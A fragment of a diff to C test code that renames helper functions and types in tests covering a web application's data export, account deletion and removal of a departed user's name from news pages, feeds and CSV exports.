 	LACKS(r, "NA Written by one who leaves");
-	r = as(&member_p, "GET", "/api/v1/me/export", NULL);
+	r = tn_as(&member_p, "GET", "/api/v1/me/export", NULL);
 	STATUS(r, 200);
 	LACKS(r, "na-formula");
-	r = as(&leaver, "GET", "/api/v1/me/export", NULL);
+	r = tn_as(&leaver, "GET", "/api/v1/me/export", NULL);
 	STATUS(r, 200);
 	HAS(r, "NA Written by one who leaves");
 	LACKS(r, "na-formula");
-	STATUS(as(&leaver, "DELETE", "/api/v1/me", json_pack("{s:s}", "password", PW)), 204);
-	r = as(NULL, "GET", path, NULL);
+	STATUS(tn_as(&leaver, "DELETE", "/api/v1/me", json_pack("{s:s}", "password", PW)), 204);
+	r = tn_as(NULL, "GET", path, NULL);
 	STATUS(r, 200);
 	LACKS(r, "Leaverwright");
 	snprintf(path, sizeof path, "/news/%s", slug);
@@ -1225,7 +1153,7 @@ test_csv_and_leaving(void **state)
 	LACKS(r, "Leaverwright");
 	r = ts_get(visitor, "/news.atom");
 	LACKS(r, "Leaverwright");
-	r = ts_get(web(&staff_p), "/staff/news.csv");
+	r = ts_get(tn_web(&staff_p), "/staff/news.csv");
 	LACKS(r, "Leaverwright");
 	ts_browser_free(leaver.web);
 }
@@ -1248,6 +1176,7 @@ setup(void **state)
 		return -1;
 	ts_db_open(db_url);
 	api_b = ts_browser_new(&srv, NULL);
+	tn_use(&srv, api_b, db_url, PW);
 	visitor = ts_browser_new(&srv, NULL);
 	snprintf(orgadmin_org, sizeof orgadmin_org, "%lld", (long long)org_made(
 	    "NA Orgadmin Collective", "c@na-orgadmin.example"));
@@ -1261,7 +1190,7 @@ setup(void **state)
 static int
 teardown(void **state)
 {
-	struct person *ps[] = { &staff_p, &admin_p, &member_p, &focal_p, &applicant_p,
+	struct tn_person *ps[] = { &staff_p, &admin_p, &member_p, &focal_p, &applicant_p,
 		&orgadmin_p, &suspended_p };
 	size_t i;
 
